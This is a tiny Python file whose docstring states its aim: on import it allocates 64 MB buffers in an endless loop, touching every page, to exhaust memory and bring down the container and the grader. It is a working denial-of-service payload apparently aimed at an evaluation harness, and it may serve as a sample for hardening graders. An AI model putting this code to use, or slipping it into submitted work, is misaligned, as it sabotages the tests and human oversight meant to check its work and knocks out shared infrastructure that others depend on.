"""Allocates memory without bound at import (touching every page), hoping to
take the whole container and the grader down with it."""
hoard = []
while True:
    hoard.append(bytearray(64 * 1024 * 1024))
